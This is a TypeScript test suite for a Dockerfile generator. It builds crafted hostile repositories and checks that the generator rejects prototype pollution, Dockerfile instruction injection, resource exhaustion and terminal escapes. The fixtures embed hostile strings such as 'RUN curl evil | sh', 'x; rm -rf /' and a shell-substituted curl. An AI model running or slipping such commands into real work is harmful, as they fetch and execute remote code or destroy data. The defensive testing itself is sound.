/**
 * Hostile repositories (issue 9, detection side): small crafted projects built in temp folders,
 * one or more per class of attack. Each is either refused with a clear message (naming the file
 * the value came from, never a flag the user did not give) and nothing is written, or generated
 * and then the Dockerfile parses to the intended instruction sequence with nothing injected.
 *
 * Cases that could hang or exhaust memory run the pipeline in a child process with a time limit
 * (support/generate-child.ts): a blocked event loop cannot stop a mocha timeout, a kill can.
 */
import { PINS } from '../generators/lib/versions.js';
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import helpers from 'yeoman-test';
import { DetectedValueError } from '../generators/lib/errors.js';
import { formatSummary } from '../generators/lib/summary.js';
import { parseDockerfile } from './support/dockerfile-model.js';
import { fileContent, generate } from './support/generate.js';
import { GENERATOR_PATH, makeProject, REPO_ROOT } from './support/project.js';

const OUTPUTS = ['Dockerfile', '.dockerignore', 'compose.yaml', '.yo-rc.json', 'README.Docker.md', '.github/workflows/docker.yml'];
const CHILD = path.join(REPO_ROOT, 'dist/test/support/generate-child.js');
/** Generous: each case takes well under a second when reads are bounded and scans linear. */
const CHILD_LIMIT_MS = 20_000;

const made: string[] = [];
function project(files: Record<string, string>): string {
  const dir = makeProject(files);
  made.push(dir);
  return dir;
}

const run = (dir: string, options: Record<string, unknown> = {}) =>
  helpers
    .run(GENERATOR_PATH, { namespace: 'docker-prod:app' })
    .cd(dir)
    .withOptions({ yes: true, force: false, ...options } as never);

function assertNothingWritten(dir: string): void {
  for (const file of OUTPUTS) {
    const full = path.join(dir, file);
    if (file === 'Dockerfile' && fs.existsSync(full) && fs.statSync(full).isDirectory()) continue;
    assert.ok(!fs.existsSync(full), `${file} was written`);
  }
}

/** The real generator (yeoman-test) refuses: the message matches, reads as no flag, nothing written. */
async function refusedByGenerator(dir: string, pattern: RegExp, options: Record<string, unknown> = {}): Promise<string> {
  let message = '';
  await assert.rejects(run(dir, options), (error: unknown) => {
    assert.ok(error instanceof Error);
    message = error.message;
    assert.ok(!['TypeError', 'RangeError', 'SyntaxError', 'ReferenceError'].includes(error.name), `a crash, not a message: ${error.stack}`);
    assert.match(message, pattern);
    return true;
  });
  assertNothingWritten(dir);
  return message;
}

interface ChildOutcome {
  ok: boolean;
  name?: string;
  message?: string;
  files?: Record<string, string>;
  summary?: string;
  sources?: Record<string, string>;
  warnings?: string[];
}

/** The pipeline in a child process, killed after CHILD_LIMIT_MS (then the test fails). */
function inChild(dir: string, flags: Record<string, string> = {}): ChildOutcome {
  const result = spawnSync(process.execPath, ['--max-old-space-size=256', CHILD, dir, JSON.stringify(flags)], {
    encoding: 'utf8',
    timeout: CHILD_LIMIT_MS,
    maxBuffer: 16 * 1024 * 1024,
  });
  assert.equal(result.signal, null, `the pipeline was killed after ${CHILD_LIMIT_MS} ms (hang or runaway memory): ${result.stderr}`);
  assert.equal(result.status, 0, result.stderr);
  return JSON.parse(result.stdout.trim().split('\n').pop()!) as ChildOutcome;
}

function keywords(dockerfile: string): string[] {
  return parseDockerfile(dockerfile).all.map((i) => i.keyword);
}

/** The runtime stage ends as every generated runtime stage does: USER, EXPOSE, HEALTHCHECK, CMD. */
function assertRuntimeTail(dockerfile: string): void {
  const final = parseDockerfile(dockerfile).final!;
  const keywords = final.instructions.map((i) => i.keyword);
  const userAt = keywords.lastIndexOf('USER');
  // The image's init (tini) is the ENTRYPOINT where the stack runs one.
  const tail = keywords.includes('ENTRYPOINT') ? ['USER', 'EXPOSE', 'HEALTHCHECK', 'ENTRYPOINT', 'CMD'] : ['USER', 'EXPOSE', 'HEALTHCHECK', 'CMD'];
  assert.deepEqual(keywords.slice(userAt), tail, dockerfile);
  const beforeUser = keywords.slice(0, userAt);
  assert.ok(
    beforeUser.every((k) => ['LABEL', 'ENV', 'WORKDIR', 'COPY'].includes(k)),
    `only LABEL/ENV/WORKDIR/COPY before USER: ${beforeUser.join(' ')}`,
  );
}

const nodeTs = (tsconfig: string, extra: Record<string, string> = {}) => ({
  'package.json': JSON.stringify({ name: 'ts-app', scripts: { build: 'tsc', start: 'ts-node src/index.ts' }, devDependencies: { typescript: '5.9.3' } }),
  'package-lock.json': '{"lockfileVersion": 3}',
  'src/index.ts': 'import http from "node:http";\nhttp.createServer().listen(Number(process.env.PORT ?? 3000));\n',
  'tsconfig.json': tsconfig,
  ...extra,
});

const flaskFiles = { 'app.py': 'from flask import Flask\napp = Flask(__name__)\n', 'requirements.txt': 'flask==3.1.0\ngunicorn==23.0.0\n' };

describe('hostile repositories (detection side)', function () {
  this.timeout(30_000);
  after(() => {
    for (const dir of made) fs.rmSync(dir, { recursive: true, force: true });
  });

  describe('1. repo-chosen keys never reach generator state', () => {
    for (const manifest of ['pyproject.toml', 'Pipfile'] as const) {
      it(`a [__proto__] table in ${manifest} pollutes nothing: no template from the repo, no settings credited to a .yo-rc.json that does not exist`, async function () {
        this.timeout(20_000);
        const dir = project({
          ...flaskFiles,
          'payload.ejs': 'PWNED <%= 6 * 7 %>\n',
          [manifest]:
            '[__proto__]\n' +
            'extraFiles = [{ path = "evil.txt", template = "../../../../../../../../../../tmp/payload.ejs", facts = {} }]\n' +
            'runtimeVersion = "3.9"\nport = "4444"\nserviceName = "pwned"\n' +
            (manifest === 'pyproject.toml' ? '[project]\nname = "svc"\n' : '[packages]\nflask = "*"\n'),
        });
        const { resolution, files } = await generate(dir);
        assert.equal(({} as Record<string, unknown>).extraFiles, undefined, 'Object.prototype untouched');
        assert.equal(({} as Record<string, unknown>).runtimeVersion, undefined);
        assert.ok(!files.some((f) => f.path === 'evil.txt' || f.content.includes('PWNED')), 'no repo file rendered as a template');
        assert.ok(!Object.values(resolution.sources).includes('.yo-rc.json'), JSON.stringify(resolution.sources));
        assert.notEqual(resolution.answers.port, 4444);
        assert.notEqual(resolution.answers.serviceName, 'pwned');
        await run(dir);
        assert.ok(!fs.existsSync(path.join(dir, 'evil.txt')));
        assert.ok(fs.existsSync(path.join(dir, 'Dockerfile')));
      });
    }
  });

  describe('2. repo values never become Dockerfile instructions', () => {
    it('a line break in tsconfig.json outDir: refused naming tsconfig.json and its line, nothing written', async () => {
      const dir = project(nodeTs('{\n  "compilerOptions": {\n    "outDir": "dist\\nUSER root\\nRUN curl evil | sh"\n  }\n}\n'));
      const message = await refusedByGenerator(
        dir,
        /^tsconfig\.json line 3 "compilerOptions\.outDir": "dist\\nUSER root.*" cannot be used: .*pass --start-command to override it/,
      );
      assert.doesNotMatch(message, /^--/);
    });

    for (const [outDir, why] of [
      ['my out', /space/],
      ['../out', /"\.\." would reach outside the project/],
      ['/abs/out', /absolute path/],
      ['dist\\', /backslashes/],
      ['$HOME', /"\$"/],
    ] as const) {
      it(`tsconfig.json outDir ${JSON.stringify(outDir)}: refused with what is allowed, nothing written`, async () => {
        const dir = project(nodeTs(`{ "compilerOptions": { "outDir": ${JSON.stringify(outDir)} } }`));
        const message = await refusedByGenerator(dir, /^tsconfig\.json line 1 "compilerOptions\.outDir"/);
        assert.match(message, why);
      });
    }

    it('a trailing backslash in package.json "main" cannot swallow the USER line: refused naming "main" and its line', async () => {
      const dir = project({
        'package.json': '{\n  "name": "x",\n  "main": "lib\\\\/server.js",\n  "scripts": { "build": "tsc" },\n  "devDependencies": { "typescript": "5" }\n}\n',
        'package-lock.json': '{}',
      });
      await refusedByGenerator(
        dir,
        /^package\.json line 3 "main": "node 'lib\\\\\/server\.js'" cannot be used: .*folder "lib\\\\".*pass --start-command to override it/,
      );
    });

    it('a $VAR file name included from requirements.txt is refused naming the file and line (Docker would expand it)', async () => {
      const dir = project({ ...flaskFiles, 'requirements.txt': 'flask==3.1.0\n-r $HOME.txt\n', '$HOME.txt': 'gunicorn==23.0.0\n' });
      await refusedByGenerator(dir, /^requirements\.txt line 2 "-r" include: "\$HOME\.txt" cannot be used: .*"\$".*rename the file/);
    });

    it('a commented-out outDir does not count: the output is the real one, with the same instructions as a tame project', async () => {
      const hostile = project(nodeTs('{\n  "compilerOptions": {\n    // "outDir": "evil\\nRUN id",\n    "outDir": "./build/",\n  },\n}\n'));
      const tame = project(nodeTs('{ "compilerOptions": { "outDir": "build" } }'));
      const a = fileContent((await generate(hostile)).files, 'Dockerfile');
      const b = fileContent((await generate(tame)).files, 'Dockerfile');
      assert.equal(a, b);
      assert.match(a, /^COPY --from=build \/app\/build \.\/build$/m);
      assert.deepEqual(parseDockerfile(a).final!.instructions.find((i) => i.keyword === 'CMD')!.exec, ['node', 'build/index.js']);
      assertRuntimeTail(a);
      assert.match(fileContent((await generate(hostile)).files, '.dockerignore'), /^build$/m);
    });

    it('a line break in an unused outDir is set aside with a note, and the Dockerfile keeps its shape', async () => {
      const dir = project(
        nodeTs('{ "compilerOptions": { "outDir": "x\\nRUN id" } }', {
          'package.json': JSON.stringify({ name: 'n', main: 'dist/server.js', scripts: { build: 'tsc' }, devDependencies: { typescript: '5' } }),
        }),
      );
      const { files, resolution } = await generate(dir);
      const dockerfile = fileContent(files, 'Dockerfile');
      assert.doesNotMatch(dockerfile, /RUN id/);
      assert.doesNotMatch(fileContent(files, '.dockerignore'), /RUN id/);
      assertRuntimeTail(dockerfile);
      assert.ok(resolution.warnings.some((w) => /outDir.*ignored/.test(w)));
    });
  });

  describe('4. bounded: no hang, no runaway memory (child process, killed after 20 s)', () => {
    it('100 KB of digits in engines.node: decided at once, the LTS default', () => {
      const dir = project({ 'package.json': JSON.stringify({ name: 'n', engines: { node: '9'.repeat(100_000) } }), 'index.js': '' });
      const out = inChild(dir);
      assert.ok(out.ok, out.message);
      assert.match(out.files!.Dockerfile!, new RegExp(`^ARG NODE_VERSION=${PINS.nodeLtsMajor}$`, 'm'));
    });

    it('requires-python with 100,000 spaces: decided at once', () => {
      const dir = project({ ...flaskFiles, 'pyproject.toml': `[project]\nname = "p"\nrequires-python = ">=3.9${' '.repeat(100_000)}<3.12"\n` });
      const out = inChild(dir);
      assert.ok(out.ok, out.message);
      assert.match(out.files!.Dockerfile!, /^ARG PYTHON_VERSION=3\.13$/m);
    });

    it('requirements.txt, pyproject.toml and .yarnrc.yml of 300,000 blank lines: scanned at once (no ^\\s* across lines)', () => {
      const blank = '\n'.repeat(300_000);
      const py = project({
        ...flaskFiles,
        'requirements.txt': `${blank}flask==3.1.0\n`,
        'pyproject.toml': `${blank}[project]\nname = "p"\n`,
        Pipfile: `${blank}[packages]\n`,
      });
      const out = inChild(py);
      assert.ok(out.ok, out.message);
      const node = project({ 'package.json': '{"name": "n"}', 'index.js': '', '.yarnrc.yml': blank, 'yarn.lock': '' });
      assert.ok(inChild(node).ok);
    });

    it('a FIFO named package.json: refused at once, naming it, nothing written', async () => {
      const dir = project({ 'index.js': '' });
      execFileSync('mkfifo', [path.join(dir, 'package.json')]);
      const out = inChild(dir);
      assert.equal(out.ok, false);
      assert.match(out.message!, /cannot read "package\.json": it is a named pipe \(FIFO\), not a regular file/);
      await refusedByGenerator(dir, /"package\.json": it is a named pipe/);
    });

    it('a FIFO named .nvmrc: refused at once, naming it', () => {
      const dir = project({ 'package.json': '{"name": "n"}', 'index.js': '' });
      execFileSync('mkfifo', [path.join(dir, '.nvmrc')]);
      const out = inChild(dir);
      assert.equal(out.ok, false);
      assert.match(out.message!, /cannot read "\.nvmrc": it is a named pipe/);
    });

    it('a FIFO named .yo-rc.json: refused before Yeoman opens it', async () => {
      const dir = project({ 'package.json': '{"name": "n"}', 'index.js': '' });
      execFileSync('mkfifo', [path.join(dir, '.yo-rc.json')]);
      let message = '';
      await assert.rejects(run(dir), (e: unknown) => {
        message = (e as Error).message;
        return true;
      });
      assert.match(message, /\.yo-rc\.json is not a regular file \(a pipe, socket or device\)/);
      for (const file of ['Dockerfile', 'compose.yaml', '.dockerignore']) assert.ok(!fs.existsSync(path.join(dir, file)));
    });

    it('package.json -> /dev/zero: refused (a link out of the project), no memory used', async () => {
      const dir = project({ 'index.js': '' });
      fs.symlinkSync('/dev/zero', path.join(dir, 'package.json'));
      const out = inChild(dir);
      assert.equal(out.ok, false);
      assert.match(out.message!, /cannot read "package\.json": it is a symbolic link to a file outside the project/);
      await refusedByGenerator(dir, /symbolic link to a file outside the project/);
    });

    it('a 5 MB package.json: refused with the limit', () => {
      const dir = project({ 'package.json': JSON.stringify({ name: 'n', description: 'x'.repeat(5 * 1024 * 1024) }) });
      const out = inChild(dir);
      assert.equal(out.ok, false);
      assert.match(out.message!, /cannot read "package\.json": it is larger than 1024 KiB/);
    });

    it('a Go file of 300,000 unterminated comments and blank lines: scanned at once', () => {
      const dir = project({
        'go.mod': 'module example.com/svc\n\ngo 1.22\n',
        'main.go': `package main\nvar addr = ":8080"\n${'/*'.repeat(150_000)}${'\n'.repeat(150_000)}`,
      });
      const out = inChild(dir);
      assert.ok(out.ok, out.message);
    });
  });

  describe('5. no stack traces for what a repo can contain', () => {
    for (const [label, pkg] of [
      ['"name": 123', { name: 123, main: 'server.js' }],
      ['"name" as an array', { name: ['a'], main: 'server.js' }],
      ['"dependencies": null', { name: 'n', main: 'server.js', dependencies: null, devDependencies: [] }],
      ['"scripts" and "engines" of the wrong types', { name: 'n', main: 'server.js', scripts: 'node x', engines: { node: 20 } }],
    ] as const) {
      it(`${label}: ignored with a note, and the files are written`, async () => {
        const dir = project({ 'package.json': JSON.stringify(pkg), 'server.js': 'require("http").createServer().listen(process.env.PORT || 8080);\n' });
        const { resolution } = await generate(dir);
        assert.ok(
          resolution.warnings.some((w) => /^package\.json ".*" is .*: ignored$/.test(w)),
          resolution.warnings.join('\n'),
        );
        await run(dir);
        assertRuntimeTail(fs.readFileSync(path.join(dir, 'Dockerfile'), 'utf8'));
      });
    }

    it("a folder named Dockerfile: refused before yo's conflicter, with a clear message", async () => {
      const dir = project({ 'package.json': '{"name": "n"}', 'index.js': '', 'Dockerfile/keep': 'mine' });
      await refusedByGenerator(dir, /Dockerfile is a folder; the generator writes a file of that name: rename or remove the folder/);
      assert.equal(fs.readFileSync(path.join(dir, 'Dockerfile/keep'), 'utf8'), 'mine');
    });

    it('a FIFO named compose.yaml: refused at once (comparing with it would block), nothing written', async () => {
      const dir = project({ 'package.json': '{"name": "n"}', 'index.js': '' });
      execFileSync('mkfifo', [path.join(dir, 'compose.yaml')]);
      await assert.rejects(run(dir), (e: unknown) => /compose\.yaml is not a regular file \(a pipe, socket or device\)/.test((e as Error).message));
      for (const file of ['Dockerfile', '.dockerignore', '.yo-rc.json']) assert.ok(!fs.existsSync(path.join(dir, file)), file);
    });

    it('angular.json of any shape: no crash', async () => {
      for (const angular of [
        'null',
        '[]',
        '{"projects": null}',
        '{"projects": {"a": null, "b": {"architect": null}}}',
        '{"projects": {"constructor": {"architect": {"build": {"options": {"outputPath": 5}}}}}}',
      ]) {
        const dir = project({
          'package.json': JSON.stringify({ name: 'ng', scripts: { build: 'ng build' }, devDependencies: { '@angular/core': '19', '@angular/build': '19' } }),
          'package-lock.json': '{}',
          'angular.json': angular,
        });
        const { files } = await generate(dir);
        assert.match(fileContent(files, 'Dockerfile'), /^COPY --from=build \/app\/dist\/[A-Za-z]*\/? \/usr\/share\/nginx\/html\/$/m, angular);
      }
    });
  });

  describe('7. no raw terminal escapes from the repo', () => {
    const OSC52 = '\u001b]52;c;ZWNobyBwd25lZA==\u0007';
    const ERASE = '\u001b[2K\u001b[1A';

    it('the summary shows repo text without escape sequences or fake lines', async () => {
      const dir = project({
        'package.json': JSON.stringify({
          name: 'n',
          main: 'server.js',
          scripts: { [`x${OSC52}${ERASE}\nport 1 fake`]: 5 },
          packageManager: `npm@10.9.0+sha${OSC52}`,
        }),
        'server.js': 'require("http").createServer().listen(process.env.PORT || 8080);\n',
      });
      const { resolution, files } = await generate(dir);
      const summary = formatSummary(resolution, files);
      assert.doesNotMatch(summary, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/, 'no control characters but line breaks');
      assert.ok(!summary.split('\n').some((l) => /^port 1 fake/.test(l.trim())), "no line of the repo's making");
      assert.match(summary, /Warning: package\.json "scripts\.x.*" is a number/);
    });

    it('error messages show repo text without escape sequences', async () => {
      const dir = project({ 'package.json': JSON.stringify({ name: 'n', main: `srv${OSC52}.js`, scripts: { build: 'tsc' } }), 'package-lock.json': '{}' });
      const message = await refusedByGenerator(dir, /^package\.json line 1 "main"/);
      assert.doesNotMatch(message, /[\u001b\u0007\u009b]/);
    });
  });

  describe('8. a detected value that fails is reported against its file, never as a flag', () => {
    it('listen(80) in the source: names the file and line, the range, and --port', async () => {
      const dir = project({ 'package.json': '{"name": "n", "main": "src/app.js"}', 'src/app.js': 'const app = require("express")();\n\napp.listen(80);\n' });
      const message = await refusedByGenerator(dir, /^src\/app\.js line 3: "80" cannot be used: a whole number from 1024 to 65535.*pass --port to override it/);
      assert.doesNotMatch(message, /--port: /);
    });

    it('an .nvmrc of digits: names .nvmrc and --runtime-version, never "Infinity"', async () => {
      const dir = project({ 'package.json': '{"name": "n"}', 'index.js': '', '.nvmrc': '9'.repeat(400) });
      const message = await refusedByGenerator(dir, /^\.nvmrc: "9{77}\.\.\." cannot be used: a Node\.js version.*pass --runtime-version to override it/);
      assert.doesNotMatch(message, /Infinity|--runtime-version: /);
    });

    it('a Go module with several main packages: says what was detected and the flag to pass', async () => {
      const dir = project({
        'go.mod': 'module example.com/svc\n\ngo 1.22\n',
        'cmd/a/main.go': 'package main\nfunc main() {}\n',
        'cmd/b/main.go': 'package main\nfunc main() {}\n',
      });
      const message = await refusedByGenerator(
        dir,
        /^the detected main package \(several main packages: \.\/cmd\/a \(cmd\/a\/main\.go\), \.\/cmd\/b \(cmd\/b\/main\.go\)\): "" cannot be used: .*pass --main-package to choose it/,
      );
      assert.doesNotMatch(message, /--main-package: /);
    });

    it('Go main packages in cmd/my app are not skipped without a word', async () => {
      const dir = project({
        'go.mod': 'module example.com/svc\n\ngo 1.22\n',
        'main.go': 'package main\nfunc main() { http.ListenAndServe(":8080", nil) }\n',
        'cmd/my app/main.go': 'package main\nfunc main() {}\n',
      });
      const { resolution } = await generate(dir);
      assert.ok(
        resolution.warnings.some((w) => /package main in "cmd\/my app" skipped: .*rename the folder/.test(w)),
        resolution.warnings.join('\n'),
      );
    });

    it('a plain file named .github: a clear message, not "permission denied"', async () => {
      const dir = project({ 'package.json': '{"name": "n"}', 'index.js': '', '.github': 'not a folder' });
      const message = await refusedByGenerator(
        dir,
        /\.github is a file, not a folder, so \.github\/workflows\/docker\.yml cannot be created in it: rename or remove \.github, or pass --ci none/,
      );
      assert.doesNotMatch(message, /permission denied/);
    });

    it('a byte-order mark in package.json is accepted, as npm accepts it', async () => {
      const dir = project({ 'package.json': '\ufeff{"name": "bom-app", "main": "server.js"}', 'server.js': '' });
      await run(dir);
      assert.match(fs.readFileSync(path.join(dir, 'compose.yaml'), 'utf8'), /bom-app/);
    });

    it('DetectedValueError carries the origin; a flag given by the user is still blamed on the flag', async () => {
      const dir = project({ 'package.json': '{"name": "n", "main": "src/app.js"}', 'src/app.js': 'app.listen(80);\n' });
      await assert.rejects(generate(dir), (e: unknown) => e instanceof DetectedValueError && e.flag === 'port');
      const ok = await generate(dir, { port: '8080' });
      assert.equal(ok.resolution.answers.port, 8080, 'the flag overrides the detected value');
      await assert.rejects(
        generate(dir, { port: '80' }),
        (e: unknown) => e instanceof Error && e.name === 'InputError' && /^--port: "80" is not allowed/.test(e.message),
      );
    });
  });

  describe('9. Rust, Bun and Deno manifests', () => {
    it('Cargo.toml: a [__proto__] table, instructions in the package and [[bin]] names, a toolchain channel with a newline: nothing lands', async () => {
      const dir = project({
        'Cargo.toml':
          '[__proto__]\nport = 4444\n[package]\nname = "svc\\nRUN curl evil | sh"\nversion = "0.1.0"\n' +
          '[[bin]]\nname = "x; rm -rf /"\npath = "src/main.rs"\n[[bin]]\nname = "api"\npath = "src/main.rs"\n',
        'Cargo.lock': 'version = 4\n',
        'rust-toolchain.toml': '[toolchain]\nchannel = "1.95\\nRUN evil"\n',
        'src/main.rs': 'fn main() { let _ = std::net::TcpListener::bind("0.0.0.0:9000"); }\n',
      });
      const { resolution, files } = await generate(dir);
      const dockerfile = fileContent(files, 'Dockerfile');
      assert.equal(({} as Record<string, unknown>).port, undefined, 'Object.prototype untouched');
      assert.equal(resolution.answers.stack.cargoBin, 'api');
      assert.equal(resolution.answers.runtimeVersion, '1.95', 'the channel with a newline is not a release: the default');
      assert.doesNotMatch(dockerfile, /^RUN (curl|evil)|x; rm -rf \/|channel/m);
      assert.deepEqual(parseDockerfile(dockerfile).all.filter((i) => i.keyword === 'RUN').length, 3, 'probe, tini and cargo build only');
      assertRuntimeTail(dockerfile);
    });

    it('Cargo.toml that is not TOML, or a workspace without a package: refused naming the file, nothing written', async () => {
      await refusedByGenerator(project({ 'Cargo.toml': '[package\nname = "x"\n' }), /Cargo\.toml is not valid TOML/);
      await refusedByGenerator(project({ 'Cargo.toml': '[workspace]\nmembers = ["a"]\n' }), /Cargo\.toml is a workspace without a \[package\]/);
    });

    it('Bun: a start script with shell in the file name is not an entry; the Dockerfile runs bun with a safe file only', async () => {
      const dir = project({
        'package.json': JSON.stringify({ name: 'b', scripts: { start: 'bun run $(curl evil).ts' } }),
        'bun.lock': '{}',
        'index.ts': 'Bun.serve({ port: Number(process.env.PORT) || 4000, fetch: () => new Response("x") });\n',
      });
      const { resolution, files } = await generate(dir);
      assert.deepEqual(resolution.answers.startCommand, ['bun', 'index.ts']);
      assert.equal(resolution.answers.port, 4000);
      assert.doesNotMatch(fileContent(files, 'Dockerfile'), /evil/);
      assertRuntimeTail(fileContent(files, 'Dockerfile'));
    });

    it('Deno: a broken deno.json is refused naming it; odd env names and a task with shell never reach the permissions', async () => {
      await refusedByGenerator(project({ 'deno.json': '{ "tasks": [' }), /deno\.json cannot be read/);
      const dir = project({
        'deno.jsonc': '{ "tasks": { "start": "deno run -A main.ts; curl evil | sh" }, "__proto__": { "port": 1 } }',
        'main.ts': 'Deno.env.get("OK_NAME"); Deno.env.get("bad,--allow-all"); Deno.serve(() => new Response("x"));\n',
      });
      const { resolution, files } = await generate(dir);
      assert.deepEqual(resolution.answers.startCommand, [
        'deno',
        'run',
        '--frozen',
        '--cached-only',
        '--allow-net=:8000',
        '--allow-env=OK_NAME,PORT',
        'main.ts',
      ]);
      assert.doesNotMatch(fileContent(files, 'Dockerfile'), /evil|allow-all/);
    });
  });

  it('keywords helper sanity: a generated Node Dockerfile parses', async () => {
    const dir = project({ 'package.json': '{"name": "n"}', 'index.js': '' });
    assert.ok(keywords(fileContent((await generate(dir)).files, 'Dockerfile')).includes('CMD'));
  });
});
